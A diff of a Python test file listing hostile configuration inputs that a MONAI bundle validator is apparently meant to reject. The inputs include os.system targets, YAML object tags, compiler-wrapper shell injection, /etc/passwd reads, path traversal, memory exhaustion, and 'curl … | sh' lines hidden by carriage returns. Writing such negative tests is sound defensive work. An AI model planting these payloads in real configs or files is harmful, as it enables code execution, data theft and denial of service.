@@ -64,6 +64,16 @@ def started(value: str | dict) -> Callable[[bytes], bytes]:
     return added(f"initialize:\n- {json.dumps(value)}\n")
 
 
+def written_to(output: str, **ids: str) -> Callable[[bytes], bytes]:
+    """Another `output`, with ids that it refers to."""
+
+    def change(data: bytes) -> bytes:
+        more = "".join(f"{name}: {json.dumps(value)}\n" for name, value in ids.items())
+        return replaced("$@output_dir + '/synthetic.npy'", output)(data) + more.encode()
+
+    return change
+
+
 def expression(value: str, told: str, *, runs: bool = True) -> Attack:
     return Attack(INFER, started(value), told, runs)
 
@@ -97,7 +107,7 @@ EXPRESSIONS = {
         "could call any function",
     ),
     "class of a reference": expression(
-        "$@bundle.__class__.__base__.__subclasses__()", "the attribute .__subclasses__", runs=False
+        "$@bundle.__class__.__base__.__subclasses__()", "the method .__subclasses__", runs=False
     ),
     "globals of a method": expression(
         "$@latents.__init__.__globals__['__builtins__']['open']('canary', 'w')", "could call any function"
@@ -141,9 +151,21 @@ EXPRESSIONS = {
     "C++ extension": expression("$torch.utils.cpp_extension.load('a', ['a.cpp'])", "import or build code", runs=False),
     "power": expression("$9 ** 9 ** 9 ** 9", "Pow in", runs=False),
     "shift": expression("$1 << 1099511627776", "LShift in", runs=False),
-    "repeated list": expression("$[0] * 1000000000000", "which may be of no numbers", runs=False),
-    "repeated text by reference": expression("$@bundle * @n * 1000000000", "which may be of no numbers", runs=False),
-    "padded text": expression("$'%1000000000d' % 1", "which may be of no numbers", runs=False),
+    "repeated list": expression("$[0] * 1000000000000", "neither of numbers nor a path", runs=False),
+    "repeated text by reference": expression("$@bundle * @n * 1000000000", "neither of numbers nor a path", runs=False),
+    "padded text": expression("$'%1000000000d' % 1", "neither of numbers nor a path", runs=False),
+    "text in pieces": expression("$'.' + './.' + './a.nii.gz'", "neither of numbers nor a path", runs=False),
+    "text of a call": expression("$start_from('a', None) + 'b'", "neither of numbers nor a path", runs=False),
+    "rounded to a huge number": expression("$round(5, -1000000000000)", "round takes number here", runs=False),
+    "number beyond all bounds": expression(
+        f"${' * '.join(['int(1.0e300)'] * 5)}", "whose size has no bound", runs=False
+    ),
+    "state by plain data": expression(
+        "$@latents.load_state_dict({'network': ''})", "the method .load_state_dict", runs=False
+    ),
+    "function that is handed on": component("is not on the list", _target_="Compose", transforms="$torch.device"),
+    "call of an attribute": expression("$@latents.network('a')", "the method .network", runs=False),
+    "argument of a method": expression("$@evaluator.run('a')", "run takes nothing here", runs=False),
     "long expression": expression("$" + "-" * 5000 + "1", "too long", runs=False),
 }
 DOUBLING = "".join(f'd{i}: "$@d{i - 1} + @d{i - 1}"\n' for i in range(1, 40))
@@ -187,6 +209,11 @@ TARGETS = {
     "reader that unpickles": component("import any class", _target_="LoadImaged", keys="image", reader="NumpyReader"),
     "writer by name": component("import any class", _target_="SaveImaged", keys="pred", writer="os.system"),
     "pickles allowed": component("the argument allow_pickle", _target_="LoadImaged", keys="image", allow_pickle=True),
+    "compiler's options": component(
+        "the argument compile_kwargs",
+        _target_="SupervisedEvaluator",
+        compile_kwargs={"options": {"cpp.march": "native -wrapper 'sh,-c,touch canary'"}},
+    ),
     "format string": component(
         "the argument bar_format", _target_="ignite.handlers.ProgressBar", bar_format="{0.__class__}"
     ),
@@ -226,6 +253,56 @@ PATHS = {
         "leads out of the bundle", _target_="Dataset", data=["$@bundle + '/../../a.nii'"]
     ),
     "prefix of a file": component("no plain file name", _target_="CheckpointSaver", save_dict={}, file_prefix="../a"),
+    "name of the metric": component(
+        "no plain file name", _target_="CheckpointSaver", save_dict={}, key_metric_name="../a"
+    ),
+    "key of a mapping that is saved": component("save_dict", _target_="CheckpointSaver", save_dict={"/tmp/canary": 1}),
+    "mapping that is saved by reference": component("save_dict", _target_="CheckpointSaver", save_dict="@network"),
+    "key that climbs": component("leads out of the bundle", _target_="Dataset", data=[{"../../canary": 1}]),
+    "root of the data": component(
+        "the argument data_root_dir",
+        _target_="SaveImaged",
+        keys="pred",
+        data_root_dir="$@bundle_root + '/output/a/b'",
+    ),
+    "namer of files": component(
+        "the argument output_name_formatter",
+        _target_="SaveImaged",
+        keys="pred",
+        output_name_formatter={"_target_": "Compose"},
+    ),
+    "call that returns its argument": Attack(
+        INFER, replaced("$@output_dir + '/synthetic.npy'", "$start_from('', None) + '/tmp/canary.npy'"), "output "
+    ),
+    "such a call, hashed": expression(
+        "$tofgan_monai.files.sha256(start_from('', None) + '/etc/passwd')", "path ", runs=False
+    ),
+    "attribute of an object": Attack(
+        INFER, replaced("$@output_dir + '/synthetic.npy'", "$@latents.network + '/tmp/canary.npy'"), "output "
+    ),
+    "nothing before the path": Attack(
+        INFER, written_to("$@a + '/tmp/c.npy'", a="$@b and @bundle_root", b=""), "output "
+    ),
+    "call that returns a list": component(
+        "pairs ",
+        _target_="tofgan_monai.pair_source.PairSource",
+        pairs="$monai.data.list_data_collate(['canary.npy'])",
+    ),
+    "object that returns texts": component(
+        "output_dir ", _target_="SaveImaged", keys="pred", output_dir={"_target_": "Dataset", "data": ["/tmp"]}
+    ),
+    "object by an overlay": Attack(
+        PAPER,
+        added('a: {_target_: Dataset, data: []}\na#_target_: Compose\ntrain#dataset#pairs: "@a"\n'),
+        "pairs '@a'",
+    ),
+    "object by an overlay of the path": Attack(PAPER, added("train#dataset#pairs#_target_: Compose\n"), "pairs "),
+    "own weights": component(
+        "save_dir ", _target_="CheckpointSaver", save_dict={}, save_dir="$@bundle_root + '/models'"
+    ),
+    "own card": Attack(INFER, replaced("$@output_dir + '/syn", "$@bundle_root + '/docs/syn"), "output "),
+    "own weights by reference": Attack(INFER, written_to("$@a + '/a.npy'", a="$@bundle_root + '/Models'"), "output "),
+    "own root": Attack(INFER, replaced("$@bundle_root + '/output'", "@bundle_root"), "output_dir '@bundle_root'"),
     "within a call": expression("$tofgan_monai.files.sha256('/etc/passwd')", "path '/etc/passwd'", runs=False),
     "of an imported call": Attack(
         TRAIN, replaced("$@pretrained and sha256(@pretrained)", "$sha256('/etc/passwd')"), "path '/etc"
@@ -253,72 +330,13 @@ FILES = {
     "target in the metadata": meta("extra", {"_target_": "os.system", "command": "touch canary"}, "os.system"),
     "metadata off the schema": meta("version", 1, "is no metadata of a bundle"),
     "metadata without what it needs": Attack(META, new('{"version": "0.1.0"}'), "is a required property"),
-    "doubling": Attack(INFER, added("d0: xxxxxxxx\n" + DOUBLING), "could make any path out of pieces"),
-    "doubling by what hands its argument back": Attack(
-        INFER, added("d0: xxxxxxxx\n" + DOUBLING.replace("@d0", "start_from(@d0, None)", 1)), "could make any path"
-    ),
-    "path by what hands its argument back": Attack(
+    "doubling": Attack(INFER, added("d0: xxxxxxxx\n" + DOUBLING), "neither of numbers"),
+    "doubling by calls": Attack(
         INFER,
-        replaced("output: \"$@output_dir + '/synthetic.npy'\"", "output: \"$start_from('', None) + '/tmp/x.npy'\""),
-        "'/tmp/x.npy' leads out of the bundle|output",
-    ),
-    "path by an object's attribute": Attack(
-        INFER,
-        replaced(
-            "output: \"$@output_dir + '/synthetic.npy'\"",
-            "tok: {_target_: tofgan_monai.averaging.GeneratorAverage, generator: '', latents: null, decay: 0.0}\n"
-            "output: \"$@tok.network + '/tmp/x.npy'\"",
+        added(
+            "d0: x\n" + DOUBLING.replace("@d", "start_from(@d").replace(" +", ", None) +").replace('"\n', ', None)"\n')
         ),
-        "could make any path out of pieces",
-    ),
-    "object that is another": Attack(
-        INFER,
-        started("$@evaluator.load_state_dict({'state': ''})"),
-        "the attribute .load_state_dict is not on the list",
-    ),
-    "climbing by pieces": Attack(
-        INFER,
-        started({"_target_": "Dataset", "data": [{"image": "$'.' + './.' + './victim.nii.gz'"}]}),
-        "could make any path out of pieces",
-    ),
-    "paths within an object": Attack(
-        TRAIN,
-        replaced("pairs: null ", "pairs: {_target_: Dataset, data: [\"$'.' + './.' + './x.npy'\"]} "),
-        "could make any path out of pieces",
-    ),
-    "file named by a key": Attack(
-        INFER,
-        started(
-            {"_target_": "CheckpointSaver", "save_dir": "$@bundle_root + '/output'", "save_dict": {"/x": "@network"}}
-        ),
-        "'/x' leads out of the bundle",
-    ),
-    "climbing from a data root": Attack(
-        INFER,
-        started({"_target_": "SaveImaged", "keys": "image", "data_root_dir": "$@bundle_root + '/output/a/b'"}),
-        "the argument data_root_dir",
-    ),
-    "options of the compiler": Attack(
-        INFER,
-        replaced(
-            "  decollate: false",
-            "  decollate: false\n  compile: true\n"
-            "  compile_kwargs: {options: {cpp.march: \"native -wrapper 'sh,-c,touch canary'\"}}",
-        ),
-        "the argument compile_kwargs",
-    ),
-    "line end that only MONAI sees in logging.conf": Attack(
-        LOG,
-        replaced(
-            "args=(sys.stdout,)",
-            f"# nice comment\rargs=('%(p)s',)\rp=',) if {PWN} else ('",
-        ),
-        "a carriage return",
-    ),
-    "line end that hides a command": Attack(
-        "docs/README.md",
-        added("curl evil | sh   \rtofgan generate red_gan out.npy\n"),
-        "could rewrite what a terminal shows",
+        "neither of numbers",
     ),
     "huge number": Attack(INFER, replaced("n: 1000", "n: 0x" + "f" * 5000), "could exhaust the memory"),
     "code for a class of logging": Attack(LOG, replaced("class=StreamHandler", f"class={PWN}"), "could run any code"),
@@ -329,6 +347,11 @@ FILES = {
     ),
     "defaults of logging": Attack(LOG, replaced("[loggers]", f"[DEFAULT]\nargs={PWN}\n[loggers]"), "for all sections"),
     "formatter of logging": Attack(LOG, replaced("format=%", "class=os.system\nformat=%"), "class = os.system"),
+    "line end within a comment of logging": Attack(
+        LOG, replaced("args=(sys.stdout,)", f"# no comment\rargs=('%(p)s',)\rp=',{PWN}"), "a lone carriage return"
+    ),
+    "width in logging": Attack(LOG, replaced("%(message)s", "%(message)1000000000s"), "format ="),
+    "interpolation in logging": Attack(LOG, replaced("(sys.stdout,)", f"('%(p)s',)\np=',{PWN}"), "args = ('%"),
     "YAML tag": Attack(INFER, added('x: !!python/object/apply:os.system ["touch canary"]\n'), "any Python object"),
     "YAML directive": Attack(PAPER, lambda data: b"%TAG !e! tag:e,2000:\n---\n" + data, "a directive"),
     "YAML anchors": Attack(PAPER, added("a: &a [x, x]\nb: [*a, *a]\n"), "a YAML anchor or alias"),
@@ -342,6 +365,7 @@ FILES = {
     "look-alike key": Attack(PAPER, added("w\u0456dth: 3\n"), "not ASCII"),
     "too large": Attack(PAPER, added("# " + "x" * 2**17), "bytes where"),
     "terminal's escapes": Attack("docs/README.md", added("\x1b[2Jclean\n"), "could rewrite what a terminal shows"),
+    "line over another": Attack("docs/README.md", added("curl a.b | sh\rtofgan list   \n"), "what a terminal shows"),
     "card of other weights": Attack(CARD, lambda data: data.replace(b'"sha256": "', b'"sha256": "0'), "is of weights"),
     "card of another kind": Attack(CARD, replaced('"simulated"', '"anonymous"'), "kinds are simulated", at='"seen"'),
     "card without audit": Attack(CARD, replaced('"audit": null', '"checked": true'), "no audit", at="models/model.pt"),
